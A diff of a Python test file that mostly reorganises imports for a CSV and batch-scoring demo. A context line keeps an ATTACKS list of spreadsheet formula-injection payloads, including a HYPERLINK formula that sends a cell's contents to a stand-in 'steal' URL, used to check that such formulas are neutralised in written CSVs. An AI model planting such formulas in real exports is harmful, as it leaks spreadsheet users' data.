@@ -11,8 +11,10 @@ import pytest
 
 from demo.errors import InputError
 from demo.gate import UploadBook
-from demo.scorecard import (FORMULA_STARTS, KEEP_FILES_S, keep_folder_swept, read_batch_csv, read_csv, records_csv,
-                            remove_old_files)
+from demo.batch import read_batch_csv
+from demo.csv_files import (FORMULA_STARTS, KEEP_FILES_S, keep_folder_swept, records_csv,
+                             remove_old_files)
+from demo.scorecard import read_csv
 from tests.test_admission import from_address
 
 def live_formulas(cells: list[str]) -> list[str]:
@@ -31,7 +33,7 @@ ATTACKS = ['=HYPERLINK("http://example.invalid/steal?"&A2,"Click me")', "+1+2", 
 
 
 def test_formula_cells_come_back_as_text_in_every_written_csv(tmp_path, runtime):
-    from demo.scorecard import run_batch
+    from demo.batch import run_batch
 
     records = [{"row": 2, "text": attack, "error": attack, attack: "header too"} for attack in ATTACKS]
     records.append({"row": 3, "text": "A plain review.", "error": "", "score": -0.5})
@@ -120,7 +122,7 @@ def test_bad_api_calls_get_clear_messages(base_url):
 
 
 def test_a_share_link_says_what_it_cut_or_skipped():
-    from demo.ui import MAX_LINK_CHARS, read_link
+    from demo.page.links import MAX_LINK_CHARS, read_link
 
     key, values, notes = read_link({"tab": "fill_mask", "text": "a [MASK] " * 1_000, "top_k": "inf"})
     assert key == "fill_mask" and len(values["fill_mask"]["text"]) == MAX_LINK_CHARS
